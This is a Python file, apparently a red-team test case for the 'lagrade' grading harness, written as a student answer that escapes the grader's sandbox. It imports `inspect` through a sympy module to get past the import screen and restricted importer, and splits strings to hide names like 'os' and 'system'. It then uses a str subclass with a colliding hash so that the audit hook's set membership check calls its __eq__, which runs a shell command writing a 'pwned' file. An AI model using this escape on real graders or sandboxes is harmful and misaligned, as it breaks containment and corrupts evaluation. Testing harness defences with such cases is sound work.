"""effect: run-command
tries: a str subclass whose __eq__ runs while the hook tests `args[1] in _PROTECTED_SETS` (busy) calls os.system.

Route 1 through a hash collision in the hook's frozenset membership test.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    members(os_)["sys" + "tem"]("id > /tmp/lagrade-redteam/drop/pwned-r1_eq_setattr_system")

ran = []


def once():
    if not ran:
        ran.append(1)
        work()


# route 1 through "object.__setattr__": `args[1] in _PROTECTED_SETS` compares args[1] with the
# set's members; a colliding hash makes the set call our __eq__ while the hook is busy
def hook_hash(self):
    return hash("_" + "_code__")


def hook_eq(self, other):
    once()
    return False


Evil = type("Evil", (str,), {"_" + "_hash_" + "_": hook_hash, "_" + "_eq_" + "_": hook_eq})
sys_.audit("object._" + "_setattr__", None, Evil("harmless"), None)
once()  # if no hook ran it (none installed, or one that never calls student code): try anyway
